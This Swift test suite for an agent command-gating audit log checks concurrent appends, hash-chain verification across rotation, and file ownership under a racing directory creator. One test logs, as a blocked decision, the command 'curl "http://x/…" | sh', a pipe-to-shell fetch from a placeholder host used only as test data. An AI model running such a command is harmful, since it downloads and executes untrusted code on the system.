import CordonBase
import Glibc
import Testing

@testable import CordonAudit

@Suite("gate.log under concurrent writers", .timeLimit(.minutes(10)))
struct ConcurrencyTests {
    @Test("8 processes × 1,000 decisions into one gate.log: none torn, none lost, the chain verifies")
    func eightProcesses() throws {
        let dir = makeTempDir()
        defer { removeTree(dir) }
        let cordon = cordonBinary()
        try #require(access(cordon, X_OK) == 0, "built cordon binary at \(cordon)")
        var pids: [pid_t] = []
        for p in 0..<8 {
            // Commands with spaces, quotes and a newline: escaping under contention too.
            let args = [
                cordon, "log", "append", "--log-dir", dir, "--decision", "block", "--score", "90", "--agent",
                "agent-\(p)",
                "--cmd", "curl \"http://x/\(p)\" | sh\nline two", "--repeat", "1000",
            ]
            var argv: [UnsafeMutablePointer<CChar>?] = args.map { strdup($0) } + [nil]
            defer { for a in argv { free(a) } }
            var pid: pid_t = 0
            #expect(posix_spawn(&pid, cordon, nil, nil, &argv, environ) == 0)
            pids.append(pid)
        }
        for pid in pids {
            var st: Int32 = 0
            while waitpid(pid, &st, 0) < 0 && errno == EINTR {}
            #expect(st == 0, "writer exit status \(st)")
        }
        let bytes = try FileIO.readFile(dir + "/gate.log")
        #expect(bytes.last == 0x0a)
        let lines = bytes.split(separator: 0x0a)
        #expect(lines.count == 8000)
        var perAgent: [String: [Int]] = [:]
        for l in lines {
            let r = try LogRecord.parse(l)  // a torn or interleaved line would not parse
            #expect(r.commandText.hasPrefix("curl \"http://x/") && r.commandText.hasSuffix("\nline two"))
            perAgent[r.agent, default: []].append(Int(r.action.dropFirst(2)) ?? -1)
        }
        #expect(perAgent.count == 8)
        for (agent, actions) in perAgent {
            #expect(actions == Array(1...1000), "\(agent): every action once, in its own order")
        }
        let report = try LogVerifier.verify(files: [dir + "/gate.log"])
        #expect(report.ok, "\(String(describing: report.problem))")
    }

    @Test("4 processes writing through rotation keep one verifiable chain across the files")
    func rotationUnderContention() throws {
        let dir = makeTempDir()
        defer { removeTree(dir) }
        let cordon = cordonBinary()
        var pids: [pid_t] = []
        for p in 0..<4 {
            let args = [
                cordon, "log", "append", "--log-dir", dir, "--decision", "allow", "--agent", "a\(p)", "--cmd", "ls",
                "--repeat", "500", "--max-size", "20000", "--keep", "100",
            ]
            var argv: [UnsafeMutablePointer<CChar>?] = args.map { strdup($0) } + [nil]
            defer { for a in argv { free(a) } }
            var pid: pid_t = 0
            #expect(posix_spawn(&pid, cordon, nil, nil, &argv, environ) == 0)
            pids.append(pid)
        }
        for pid in pids {
            var st: Int32 = 0
            while waitpid(pid, &st, 0) < 0 && errno == EINTR {}
            #expect(st == 0)
        }
        let files = LogDirectory(path: dir).logFiles()
        #expect(files.count > 5)
        let report = try LogVerifier.verify(files: files)
        #expect(report.ok, "\(String(describing: report.problem))")
        #expect(report.lines == 2000)
        #expect(report.notes.isEmpty, "nothing rotated away with keep 100")
    }

    /// Two makers of one `.cordon/` (a run's early sandbox and its gate thread; two runs in a
    /// fresh workspace): the loser finds the directories there, made by root and not yet given
    /// away, and creates the trace in them. Here the winner is frozen between its mkdirs and its
    /// chowns; the loser's create() must settle the owner itself, or the files it makes next stay
    /// root's in the user's project (a CI failure: a trace owned by root in `.cordon/traces`).
    @Test(
        "as root, a .cordon/ and traces/ still root's from a racing maker take the workspace owner's before files go in",
        .enabled(if: geteuid() == 0, "chown needs root"))
    func racingMakerLeavesRootsDirectories() throws {
        let ws = makeTempDir()
        defer { removeTree(ws) }
        #expect(chown(ws, 4242, 4343) == 0)
        // The winner's mkdirs, without its chowns yet.
        #expect(mkdir(ws + "/.cordon", 0o700) == 0)
        #expect(mkdir(ws + "/.cordon/traces", 0o700) == 0)
        let dir = LogDirectory(path: ws + "/.cordon")
        try dir.create()
        let recorder = try RunRecorder(directory: dir)
        var st = stat()
        for path in [dir.path, dir.traces, recorder.tracePath, dir.lockFile] {
            #expect(lstat(path, &st) == 0 && st.st_uid == 4242 && st.st_gid == 4343, "\(path): uid \(st.st_uid)")
        }
        // A directory cordon did not make is never taken: the workspace's parent stays root's.
        let parent = String(ws[..<ws.lastIndex(of: "/")!])
        #expect(lstat(parent, &st) == 0 && st.st_uid == 0)
    }
}
